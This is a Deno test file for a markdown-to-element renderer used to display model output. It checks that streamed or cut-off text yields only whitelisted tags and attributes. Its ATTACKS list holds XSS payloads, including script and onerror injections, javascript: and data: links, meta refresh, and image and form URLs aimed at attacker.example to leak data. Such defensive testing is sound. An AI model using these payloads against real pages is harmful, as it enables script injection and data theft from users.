/** Model text as elements: whatever is written, and wherever the stream is cut, only harmless elements come of it. */
import assert from "node:assert/strict";
import fc from "fast-check";
import { type ComponentChildren, Fragment, isValidElement, type VNode } from "preact";

import { drawn, Formatted, LEAVES, PEN, Picture } from "./drawn.tsx";
import { NESTING } from "../../../ui/rich/parser.ts";
import { rowsShown } from "../../../ui/rich/long_table.ts";
import { FORMULAS, LINE_UNITS } from "../../../ui/rich/growing.tsx";
import { FORMATTED_UNITS, partsOf } from "../../../ui/rich/rich_text.tsx";
import { draws, FAST, sample } from "../../effort.ts";

const ELEMENTS = new Set(
  "div p h2 h3 h4 h5 h6 ul ol li blockquote table thead tbody tr th td em strong s a small b span code br hr aside section sup button svg path line circle"
    .split(" "),
);
const EVERYWHERE = ["dir", "class", "data-md", "data-size"];
/** What an element may have beside its children and what all may have. */
const PROPS: Readonly<Record<string, readonly string[]>> = {
  a: ["href", "target", "rel", "title"],
  div: ["ref", "role", "aria-label"],
  ol: ["start"],
  li: ["value", "data-label"],
  aside: ["data-callout", "data-title"],
  section: ["aria-label"],
  span: ["role", "aria-label"],
  button: ["type", "data-mark", "data-back", "aria-label", "onClick"],
};
/** Every element of a tree, components carried out; code, formulas and pictures stay as they are. */
function* elements(node: ComponentChildren): Generator<VNode<Record<string, unknown>>> {
  if (Array.isArray(node)) { for (const child of node) yield* elements(child); }
  if (!isValidElement(node)) return;
  const { type, props } = node as VNode<Record<string, unknown>>;
  if (LEAVES.has(type)) {
    for (const value of Object.values(props)) assert.match(typeof value, /^(string|boolean)$/);
    return void (yield node as VNode<Record<string, unknown>>);
  }
  if (typeof type === "function" && type !== Fragment) {
    // Components of this room are plain functions of their props.
    return yield* elements((type as (props: unknown) => ComponentChildren)(props));
  }
  if (type !== Fragment) yield node as VNode<Record<string, unknown>>;
  // Drawings are ours, whatever they stand beside.
  if (type !== "svg") yield* elements(props["children"] as ComponentChildren);
}

function check(text: string, writing: boolean): void {
  for (const { type, props } of elements(<Formatted text={text} writing={writing} />)) {
    if (LEAVES.has(type) || type === "svg") continue;
    const where = `${JSON.stringify(text)} made <${String(type)}>`;
    assert.ok(typeof type === "string" && ELEMENTS.has(type), where);
    for (const [name, value] of Object.entries(props)) {
      if (name === "children" || value === null) continue;
      assert.ok(EVERYWHERE.includes(name) || PROPS[type]?.includes(name), `${where} with ${name}`);
      if (name !== "href") continue;
      assert.match(String(value), /^(https?:\/\/|mailto:)/, where);
      assert.equal(props["rel"], "noopener noreferrer");
    }
  }
}

Deno.test("the elements of a text are all seen, those of components too", () => {
  const text =
    "# One\n\n**two** [three](https://a.example) ![four](https://b.example/x.png)\n\n- `five`\n\n| a |\n|---|\n| b |";
  const found = [...elements(<Formatted text={text} />)].map(({ type }) => type);
  for (const tag of ["h2", "p", "strong", "a", "small", "ul", "li", "code", "table", "td"]) {
    assert.ok(found.includes(tag), tag);
  }
  assert.deepEqual(found.filter((tag) => LEAVES.has(tag)), [Picture]);
});

Deno.test("while it is written its last element alone says so, and nothing of it once it is not", () => {
  const texts = [
    "One",
    "One\n\nTwo",
    "# One",
    "One\n\n- two\n- three",
    "> [!NOTE]\n> One",
    "One\n\n```\ntwo",
  ];
  const penned = (text: string, writing: boolean) =>
    [...elements(<Formatted text={text} writing={writing} />)].filter(({ props }) =>
      String(props["class"]).split(" ").includes(PEN)
    ).map(({ type }) => type);
  assert.deepEqual(texts.map((text) => penned(text, true)), [["p"], ["p"], ["h2"], ["ul"], [], []]);
  assert.deepEqual(texts.flatMap((text) => penned(text, false)), []);
});

const ATTACKS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "[a](javascript:alert(1))",
  "[a](JaVa\tScRiPt:alert(1) 'x')",
  "[a](&#106;avascript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:x) <javascript:alert(1)> <https://ok.example>",
  "![p](https://attacker.example/leak?q=1) ![p](javascript:alert(1))",
  "[r]: javascript:alert(1)\n\n[r] ![r]",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  "1. <iframe srcdoc='<script>'>\n2. `<b>`\n\n```html\n<script>alert(1)</script>\n```",
  "> <form action=https://attacker.example>\n> <style>@import 'x'</style>",
  "<a href='https://attacker.example' ping='https://attacker.example'>x</a>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "[click](file:///etc/passwd) [click](//attacker.example/x) [click](/api/conversations)",
  "[![pixel](https://attacker.example/a.png)](javascript:alert(1))",
  '``` "><script>alert(1)</script>\nx\n```',
  "\u202e<script>\u2066alert(1)\u2069</script> \u0000<scr\u0000ipt>",
  "$\\href{javascript:alert(1)}{x}$ \\[ <script>alert(1)</script> \\] $$\n<img src=x onerror=alert(1)>\n$$",
  "[^x]: <script>alert(1)</script> [y](javascript:1)\n\n[^x]",
  "> [!NOTE] <img src=x onerror=alert(1)>\n> <script>alert(1)</script>",
  "- [x] <script>alert(1)</script>\n\njavascript:alert(1) javascript://a.example/%0aalert(1) data://x",
  "&lt;script&gt;alert(1)&lt;/script&gt; <!--[if IE]><script>alert(1)</script><![endif]-->",
];

// Shows P25, S0-78; CVE-2026-32626, CVE-2026-70492, CVE-2026-109288, CVE-2025-59417.
Deno.test("no attack makes an element or an attribute that could run or fetch, at any place where the stream is cut", () => {
  for (const attack of sample(ATTACKS, 4, 1)) {
    const text = `Well.\n\n${attack}\n\nDone.`;
    for (let cut = 0; cut <= text.length; cut++) check(text.slice(0, cut), true);
    check(text, false);
  }
});

// Shows P25, S0-78.
Deno.test("nor does any mixture of pieces of markdown and markup", () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ..."$,$$,\\(,\\),\\[,\\],[^a],[^a]: ,[!NOTE],[x] ,http://,<,>,[,],(,),!,`,```\n,\n,\n\n,*,_,~,|,---|,#, ,\\,&lt;,&#x6a;,javascript:,data:,https://a.example,onerror=,<img src=,<a href=,<!--,-->,]]>,'"
        .split(","),
      ...ATTACKS,
    ),
    fc.string({ maxLength: 6 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), fc.boolean(), (pieces, writing) => {
      check(pieces.join(""), writing);
    }),
    { numRuns: FAST ? draws(2_000) : 2_000 },
  );
});

Deno.test("while it is written the closed parts of a text are parsed once, and in the end it is as if read at once", () => {
  const text = "# a\n\nb *c* $d$\n\n- e\n- f\n\ng\n\n```\nh\n\ni\n```\n\nj[^1]\n\n| k |\n|---|\n| l |\n\nm";
  const first = new Map<number, unknown>();
  for (let cut = 1; cut <= text.length; cut++) {
    const parts = partsOf(text.slice(0, cut), true).elements;
    // The last one may go on.
    for (const [index, part] of parts.slice(0, -1).entries()) {
      const { props } = part as VNode<{ children: unknown }>;
      if (!first.has(index)) first.set(index, props.children);
      assert.equal(props.children, first.get(index), `part ${index} at ${cut}`);
    }
  }
  assert.ok(first.size > 4);
  assert.equal(drawn(text, true), drawn(text));
});

Deno.test("parts are made as the pace lets them be, in order; what waits stands as it was written, and nothing is lost", () => {
  const text = "# paced\n\none *a*\n\ntwo *b*\n\nthree *c*";
  let room = 12;
  const pace = (units: number) => (room -= units) > 0;
  const first = partsOf(text, false, pace);
  assert.equal(text.slice(first.from), "one *a*\n\ntwo *b*\n\nthree *c*");
  room = 12;
  const second = partsOf(text, false, pace);
  assert.equal(text.slice(second.from), "two *b*\n\nthree *c*", "what was made is not made again");
  room = 1;
  const { elements, from } = partsOf(`${text.slice(0, second.from)}four *d*`, true, pace);
  assert.equal(elements.length, 3, "what is being written is not held back");
  assert.equal(from, second.from + "four *d*".length);
  room = 1_000;
  assert.equal(partsOf(text, false, pace).from, text.length);
});

Deno.test("a line that never ends stands in one paragraph, with its blanks, however many pieces it is made in", () => {
  const sentence = "It goes on and *on*. ";
  const pieces = (text: string) => [...drawn(text).matchAll(/<div class=slice(?: on)? line>(.*?)<\/div>/gs)];
  const [line] = pieces(sentence.repeat(3_000));
  assert.ok((line?.[1]?.split("<p>").length ?? 0) > 3);
  assert.equal(line?.[1]?.replaceAll(/<\/?p>/g, ""), "It goes on and <em>on</em>. ".repeat(3_000));
  assert.equal(
    drawn("a".repeat(60_000)).replaceAll(/<[^>]*>/g, ""),
    "a".repeat(60_000),
    "no blank in a word",
  );
  // Each is laid out at once.
  const long = pieces(sentence.repeat(15_000));
  assert.ok(long.length > 2);
  for (const [html] of long) assert.ok(html.length < 2 * LINE_UNITS, String(html.length));
  assert.ok(!/slice(?: on)? line/.test(drawn("a line\n".repeat(10_000))), "lines begin anew");
});

Deno.test("a table that is too long says how many of its rows are shown", () => {
  const rows = "| 1 | 2 |\n".repeat(5_000);
  const cut = /Only the first ([\d,]+) rows are shown of ([\d,]+)\./.exec(
    drawn(`| a | b |\n|---|---|\n${rows}`),
  );
  assert.deepEqual(cut?.slice(1), [rowsShown(2).toLocaleString("en"), "5,000"]);
});

Deno.test("a formula in a note is set, as one in the text is", () => {
  assert.match(drawn("One[^n]\n\n[^n]: with $x$"), /with \[formula \$ x\]/);
});

Deno.test("headings look as they were written, and no level is left out on the way down", () => {
  const headings = (text: string) => [...drawn(text).matchAll(/<h(\d)/g)].map(([, level]) => Number(level));
  assert.deepEqual(headings("# a\n\n## b\n\n### c\n\n# d"), [2, 3, 4, 2]);
  assert.deepEqual(headings("### a\n\nwords\n\n##### b\n\n## c"), [2, 3, 3]);
  assert.deepEqual(headings("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f"), [2, 3, 4, 5, 6, 6]);
});

Deno.test("lists, quotes, callouts and tables stand on the side from which their first letter is read", () => {
  const sides = (text: string) =>
    [...elements(<Formatted text={text} />)].flatMap(({ type, props }) =>
      ["ul", "ol", "blockquote", "aside"].includes(String(type)) || props["class"] === "scroll"
        ? [`${String(type)} ${String(props["dir"])}`]
        : []
    );
  const one = "- 1\n- A\n\n1. א\n   - b\n2. c\n\n> - ١ ב\n\n> 12\n\n| ج | d |\n|---|---|\n| 1 | 2 |";
  assert.deepEqual(sides(one), [
    "ul ltr",
    "ol rtl",
    "ul ltr",
    "blockquote rtl",
    "ul rtl",
    "blockquote undefined",
    "div rtl",
  ]);
  assert.deepEqual(sides("> [!NOTE]\n> ד e\n\n> [!TIP] ה\n> 1\n\n> [!TIP] ה\n> f\n\n> [!TIP]\n> 2"), [
    "aside rtl",
    "aside rtl",
    "aside ltr",
    "aside undefined",
  ]);
});

Deno.test("what stands too deep is told to be there, and nothing else is lost", () => {
  const deep = drawn(`${"> ".repeat(NESTING + 5)}words\n\nafter`);
  assert.equal(deep.split("<blockquote>").length - 1, NESTING);
  assert.match(deep, /Nested too deep/);
  assert.match(deep, /<p>after<\/p>$/);
  assert.ok(!drawn(`${"> ".repeat(NESTING - 1)}words`).includes("Nested"), "as deep as may be");
});

Deno.test("the first formulas of a text are set, the parts behind show their source, and it says so", () => {
  const text = (count: number) => "$x$\n\n".repeat(count);
  assert.ok(!drawn(text(FORMULAS)).includes("unset"));
  const more = drawn(text(FORMULAS + 2));
  assert.equal(more.split("[unset formula").length - 1, 2);
  assert.match(more, /Only the first 300 formulas are set/);
});

Deno.test("the rest of a text that is too long stands as it was written, and it says so", () => {
  const text = `${"a".repeat(FORMATTED_UNITS)}**b**`;
  assert.ok(drawn(text).endsWith("formatting: it is too long for that.</p><div class=text>**b**</div>"));
  assert.ok(!drawn(text.slice(0, FORMATTED_UNITS)).includes("cut-off"));
});
